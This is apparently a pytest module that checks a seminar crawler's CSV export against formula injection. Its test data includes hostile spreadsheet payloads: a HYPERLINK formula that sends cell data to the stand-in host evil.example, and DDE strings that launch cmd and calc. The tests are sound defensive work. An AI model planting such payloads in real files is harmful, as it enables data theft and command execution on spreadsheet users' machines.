"""`seminars export csv` is safe to open in a spreadsheet, and still reads back into the talks.

A cell that starts with = + - @ tab or CR is a formula to Excel, LibreOffice and Google Sheets
(OWASP, "CSV Injection"); the export puts a single quote before it. JSON keeps the original.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from crawler.db import Store
from crawler.outputs import files

# Subprocess crawls, servers or a demo database: deselect with -m 'not slow'.
pytestmark = pytest.mark.slow


SEMINARS = [sys.executable, "-m", "crawler.cli"]
# What a spreadsheet reads as the start of a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'

# (text, what the CSV cell holds): triggers get a quote; negative rows stay as they are.
CELLS = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1-555-0100", "'+1-555-0100"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("'=1+1", "''=1+1"),  # already quoted by its author: one more, so reading back is exact
    ("''@x", "'''@x"),
    # negative rows
    ("Equivariant Manifold Neural ODEs", "Equivariant Manifold Neural ODEs"),
    ("'Quoted' title", "'Quoted' title"),
    ("''", "''"),
    ("x = 1 + 1", "x = 1 + 1"),
    (" =1+1", " =1+1"),
    ("2024-05-30T10:30:00+02:00", "2024-05-30T10:30:00+02:00"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "cell"), CELLS)
def test_guard_cell(text: str, cell: str) -> None:
    assert files.guard_cell(text) == cell
    assert files.unguard_cell(cell) == text


def _talk(index: int, **fields: Any) -> dict[str, Any]:
    return {
        "id": hashlib.sha1(f"csv:{index}".encode()).hexdigest()[:16],
        "title": f"Talk {index}",
        "speakers": [{"name": "Ada Lovelace", "affiliation": None}],
        "starts_at": "2024-05-30T10:30:00+02:00",
        "ends_at": None,
        "timezone": "Europe/Stockholm",
        "location": None,
        "online": False,
        "abstract": None,
        "url": f"https://example.org/talk/{index}",
        "links": [],
        "kind": "seminar",
        "series": "Spreadsheet Seminar",
        "status": "scheduled",
        "extracted_by": "tests",
        "source_url": "https://example.org/",
        **fields,
    }


# Hostile text in every free-text field a page can fill, each talk another trigger.
HOSTILE = [
    _talk(0, title=HYPERLINK),
    _talk(1, title="+cmd|' /C calc'!A0", location="@SUM(1+1)*cmd|' /C calc'!A0"),
    _talk(2, abstract="-2+3+cmd|' /C calc'!A0", speakers=[{"name": "=1+1", "affiliation": "X"}]),
    _talk(3, title="\t=1+1", links=[{"kind": "slides", "url": "https://example.org/s.pdf"}]),
    _talk(4, title="'=already quoted", location="'plain quote"),
    _talk(5, title="An ordinary talk", abstract="- a list\n- of points"),
]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("csv") / "hostile.db"
    with Store(path) as store:
        store.upsert_series(
            {
                "id": "spreadsheet",
                "name": "Spreadsheet Seminar",
                "url": "https://example.org/",
                "institution": None,
                "timezone": "Europe/Stockholm",
                "kind": "seminar",
                "parser": "auto",
            }
        )
        store.save_talks("spreadsheet", HOSTILE, now="2025-01-01T00:00:00+00:00")
    return path


def run(*args: str) -> str:
    result = subprocess.run([*SEMINARS, *args], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    return result.stdout


def csv_cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_no_csv_cell_starts_a_formula(hostile_db: Path) -> None:
    rows = csv_cells(run("export", "csv", "--db", str(hostile_db)))
    assert len(rows) == len(HOSTILE)
    starts = [(key, cell) for row in rows for key, cell in row.items() if cell]
    assert [(k, c) for k, c in starts if c.startswith(TRIGGERS)] == []
    by_title = {row["title"] for row in rows}
    assert "'" + HYPERLINK in by_title
    assert "''=already quoted" in by_title


def test_csv_file_is_neutralised_too(hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "talks.csv"
    run("export", "csv", "--db", str(hostile_db), "-o", str(out))
    rows = csv_cells(out.read_text(encoding="utf-8"))
    assert rows[0]["title"] == "'" + HYPERLINK
    assert rows[2]["speakers"] == "'=1+1 (X)"


def test_json_keeps_the_original_text(hostile_db: Path) -> None:
    talks = json.loads(run("export", "json", "--db", str(hostile_db)))
    assert [t["title"] for t in talks][:5] == [t["title"] for t in HOSTILE][:5]
    lines = [
        json.loads(line)
        for line in run("export", "jsonl", "--db", str(hostile_db)).split("\n")
        if line
    ]
    assert lines == talks
    assert talks[2]["speakers"] == [{"name": "=1+1", "affiliation": "X"}]


def test_read_csv_round_trips_hostile_talks(hostile_db: Path) -> None:
    talks = json.loads(run("export", "json", "--db", str(hostile_db)))
    assert files.read_csv(run("export", "csv", "--db", str(hostile_db))) == talks


def test_read_csv_round_trips_the_demo(tmp_path: Path) -> None:
    db = tmp_path / "demo.db"
    run("demo", "--db", str(db))
    talks = [json.loads(line) for line in run("export", "jsonl", "--db", str(db)).splitlines()]
    assert len(talks) > 50
    assert files.read_csv(run("export", "csv", "--db", str(db))) == talks
